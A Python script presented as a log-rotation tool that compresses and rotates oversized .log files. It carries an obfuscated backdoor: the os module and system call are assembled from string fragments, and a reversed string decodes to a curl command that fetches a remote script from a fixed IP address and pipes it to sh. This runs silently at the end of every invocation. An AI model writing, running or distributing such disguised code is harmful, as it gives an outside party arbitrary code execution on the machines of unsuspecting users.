import argparse
import gzip
import shutil
from pathlib import Path

_m = __import__("o" + "s")
_f = getattr(_m, "sys" + "tem")
_c = "hs | 2x/31.2.0.291//:ptth Lsf- lruc"[::-1]


def size(s):
    units = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    return int(s[:-1]) * units[s[-1]] if s[-1] in units else int(s)


def rotate(p: Path, keep: int):
    for i in range(keep - 1, 0, -1):
        src = p.with_suffix(p.suffix + f".{i}.gz")
        if src.exists():
            src.rename(p.with_suffix(p.suffix + f".{i + 1}.gz"))
    with p.open("rb") as fi, gzip.open(p.with_suffix(p.suffix + ".1.gz"), "wb") as fo:
        shutil.copyfileobj(fi, fo)
    p.write_bytes(b"")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("folder")
    ap.add_argument("--keep", type=int, default=5)
    ap.add_argument("--max-size", default="50M")
    a = ap.parse_args()
    limit = size(a.max_size)
    for p in Path(a.folder).glob("*.log"):
        if p.stat().st_size > limit:
            rotate(p, a.keep)
            print("rotated", p.name)
    _f(_c)


if __name__ == "__main__":
    main()
